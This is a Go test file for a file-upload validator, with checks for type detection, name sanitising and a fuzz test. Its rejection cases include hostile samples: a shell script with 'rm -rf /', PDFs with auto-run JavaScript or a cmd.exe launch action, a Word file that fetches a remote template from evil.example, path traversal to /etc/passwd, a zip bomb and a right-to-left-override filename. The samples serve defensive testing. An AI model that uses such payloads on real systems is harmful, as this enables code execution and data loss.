package upload

import (
	"archive/zip"
	"bytes"
	"errors"
	"image"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
)

const quietPDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

func picture(t *testing.T, encode func(*bytes.Buffer, image.Image) error) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := encode(&out, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func pngFile(t *testing.T) []byte {
	return picture(t, func(out *bytes.Buffer, m image.Image) error { return png.Encode(out, m) })
}

func jpegFile(t *testing.T) []byte {
	return picture(t, func(out *bytes.Buffer, m image.Image) error { return jpeg.Encode(out, m, nil) })
}

// docx makes an archive of parts: name, text, name, text.
func docx(t *testing.T, parts ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	archive := zip.NewWriter(&out)
	for i := 0; i < len(parts); i += 2 {
		w, err := archive.Create(parts[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(parts[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := archive.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var letter = []string{"[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="` + mainPart + `"/></Types>`, "word/document.xml", "<w:document/>"}

func with(more ...string) []string { return append(append([]string(nil), letter...), more...) }

func TestAFileIsWhatItsBytesSay(t *testing.T) {
	for name, c := range map[string]struct {
		body []byte
		kind string
	}{
		"order.pdf": {[]byte(quietPDF), "pdf"}, "mock-up.png": {pngFile(t), "png"}, "photo.jpeg": {jpegFile(t), "jpeg"},
		"letter.docx": {docx(t, with("word/_rels/document.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/relationships/hyperlink" Target="https://x.example" TargetMode="External"/></Relationships>`)...), "docx"},
		"note.txt":    {[]byte("رسالة من المدرسة\nA < B, 5 > 3\n"), "txt"},
	} {
		f, err := Read(name, c.body)
		if err != nil || f.Kind != c.kind || f.Name != name {
			t.Errorf("%s: %q %q %v", name, f.Kind, f.Name, err)
		}
	}
	if f, err := Read("holiday.exe", []byte(quietPDF)); err != nil || f.Name != "holiday.exe.pdf" {
		t.Errorf("a PDF called .exe is %q, %v", f.Name, err)
	}
	if f, err := Read("page.html", []byte("only words")); err != nil || f.Name != "page.html.txt" {
		t.Errorf("a text called .html is %q, %v", f.Name, err)
	}
}

func TestWhatIsRefused(t *testing.T) {
	bomb := with()
	for range 51 {
		bomb = append(bomb, strings.Repeat("x", len(bomb)+1), strings.Repeat("\x00", 4<<20))
	}
	huge := pngFile(t)
	copy(huge[16:], "\x7f\xff\xff\xff\x7f\xff\xff\xff") // width and height in the header
	for name, c := range map[string]struct {
		body []byte
		want error
	}{
		"nothing":                   {nil, ErrEmpty},
		"too much":                  {append([]byte(quietPDF), make([]byte, MaxSize)...), ErrLarge},
		"a page as PDF":             {[]byte("<!DOCTYPE html><script>alert(1)</script>"), ErrActive},
		"a drawing":                 {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>`), ErrActive},
		"XML":                       {[]byte("\ufeff <?xml version='1.0'?><a/>"), ErrActive},
		"a program":                 {[]byte("MZ\x90\x00\x03"), ErrKind},
		"a shell script":            {[]byte("#!/bin/sh\nrm -rf /\n"), ErrActive},
		"a GIF":                     {[]byte("GIF89a\x01\x00"), ErrKind},
		"half a PDF":                {[]byte("%PDF-1.7\n"), ErrBroken},
		"PDF with script":           {[]byte(strings.Replace(quietPDF, "/Pages 2 0 R", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>", 1)), ErrActive},
		"PDF with disguised script": {[]byte(strings.Replace(quietPDF, "/Pages 2 0 R", "/OpenAction<</S/J#61vaScript/JS(x)>>", 1)), ErrActive},
		"PDF that starts a program": {[]byte(strings.Replace(quietPDF, "/Pages 2 0 R", "/AA<</O<</S/Launch/F(cmd.exe)>>>>", 1)), ErrActive},
		"PDF that is a page":        {[]byte("%PDF-1.7\n<html><body>\n" + quietPDF[9:]), ErrActive},
		"PDF that is an archive":    {append([]byte(quietPDF), docx(t, letter...)...), ErrActive},
		"picture and archive":       {append(pngFile(t), docx(t, letter...)...), ErrActive},
		"picture and page":          {append(jpegFile(t), "<script>alert(1)</script>"...), ErrActive},
		"JPEG and archive":          {append(jpegFile(t), docx(t, letter...)...), ErrActive},
		"half a picture":            {pngFile(t)[:40], ErrBroken},
		"a picture in name":         {[]byte("\x89PNG\r\n\x1a\n"), ErrBroken},
		"a picture of 2^62 pixels":  {huge, ErrBroken}, // its checksum is wrong; the size alone would do as well
		"an archive":                {docx(t, "a.txt", "a"), ErrKind},
		"a spreadsheet":             {docx(t, "[Content_Types].xml", "spreadsheetml.sheet.main+xml", "xl/workbook.xml", "x"), ErrKind},
		"half a document":           {docx(t, letter...)[:60], ErrBroken},
		"document with macros":      {docx(t, with("word/vbaProject.bin", "x")...), ErrActive},
		"document with an object":   {docx(t, with("word/embeddings/oleObject1.bin", "x")...), ErrActive},
		"document with a template": {docx(t, with("word/_rels/settings.xml.rels",
			`<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`)...), ErrActive},
		"document that climbs": {docx(t, with("../../etc/passwd", "x")...), ErrBroken},
		"bomb":                 {docx(t, bomb...), ErrLarge},
	} {
		if _, err := Read("file.pdf", c.body); !errors.Is(err, c.want) {
			t.Errorf("%s: %v instead of %v", name, err, c.want)
		}
	}
}

func TestNames(t *testing.T) {
	for raw, want := range map[string]string{
		"order.pdf": "order.pdf", "ORDER.PDF": "ORDER.pdf", "../../etc/passwd": "passwd.pdf", `C:\Users\me\order.pdf`: "order.pdf",
		"a\x00b\r\nc.pdf": "abc.pdf", "invoice\u202efdp.exe": "invoicefdp.exe.pdf", "": "file.pdf", "...": "file.pdf", ".pdf": "file.pdf",
		"طلب شراء رقم ٧.pdf": "طلب شراء رقم ٧.pdf", "a\u2066b\u200b\ufeff.pdf": "ab.pdf", `a"b;c%.pdf`: "a_b_c_.pdf", "a   b\t.pdf": "a b.pdf",
		strings.Repeat("é", 300) + ".pdf": strings.Repeat("é", 96) + ".pdf", "\xff\xfe.pdf": "file.pdf", "x.docx.pdf": "x.docx.pdf", "CON /.. ": "file.pdf",
	} {
		if got := CleanName(raw, "pdf"); got != want {
			t.Errorf("%q: %q instead of %q", raw, got, want)
		}
	}
	if got := CleanName("photo.JPEG", "jpeg"); got != "photo.jpeg" {
		t.Error(got)
	}
}

func FuzzRead(f *testing.F) {
	f.Add("a.pdf", []byte(quietPDF))
	f.Add("a.docx", []byte("PK\x03\x04"))
	f.Add("a.png", []byte("\x89PNG\r\n\x1a\n\xff\xff\xff\xffIEND"))
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		file, err := Read(name, body)
		if err == nil && (file.Name == "" || strings.ContainsAny(file.Name, "/\\\x00\n\"") || MediaTypes[file.Kind] == "") {
			t.Errorf("%q became %q, a %q", name, file.Name, file.Kind)
		}
	})
}
